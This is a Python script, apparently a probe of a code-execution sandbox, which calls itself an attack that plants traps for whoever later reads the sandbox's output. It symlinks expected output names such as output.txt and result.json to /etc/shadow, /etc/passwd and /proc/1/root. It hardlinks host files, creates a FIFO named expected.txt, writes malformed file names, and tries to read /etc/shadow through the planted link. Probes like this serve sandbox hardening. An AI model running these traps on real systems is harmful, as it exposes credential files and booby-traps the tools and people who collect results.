# Attack: plant traps for whoever reads the box afterwards: symlinks and hardlinks to host files, FIFOs and odd names where outputs are expected.
import errno, os

os.chdir("/box")


def attempt(label, fn):
    try:
        fn()
        return "OK"
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))
    except ValueError as e:
        return "ValueError"


for target, link in (("/etc/shadow", "output.txt"), ("/etc/passwd", "stdout"), ("/proc/1/root", "root"),
                     ("/proc/self/fd/1", "result.json"), ("/", "up"), ("../../..", "dotdot")):
    print("symlink %s -> %s: %s" % (link, target, attempt(link, lambda: os.symlink(target, link))))
for target in ("/etc/passwd", "/usr/bin/python3", "/dev/null", "/proc/self/status"):
    res = attempt(target, lambda: os.link(target, "hard-" + os.path.basename(target)))
    print("hardlink %s: %s" % (target, res + (" (LEAK: cross-mount hardlink)" if res == "OK" else "")))
print("mkfifo expected.txt:", attempt("fifo", lambda: os.mkfifo("expected.txt")))
print("name with NUL:", attempt("nul", lambda: open("a\0b", "w")))
print("non-UTF-8 name:", attempt("bytes", lambda: open(b"\xff\xfe-\xc0\xaf", "w").close()))
print("name with newline:", attempt("nl", lambda: open("x\ny", "w").close()))
print("255-byte name:", attempt("255", lambda: open("n" * 255, "w").close()))
print("256-byte name:", attempt("256", lambda: open("n" * 256, "w").close()))
print("8000-byte path:", attempt("long", lambda: open("/box/" + "p/" * 4000, "w")))
try:
    with open("output.txt") as f:
        print("reading through output.txt: %d bytes (LEAK)" % len(f.read()))
except OSError as e:
    print("reading through output.txt:", errno.errorcode.get(e.errno, e.errno))
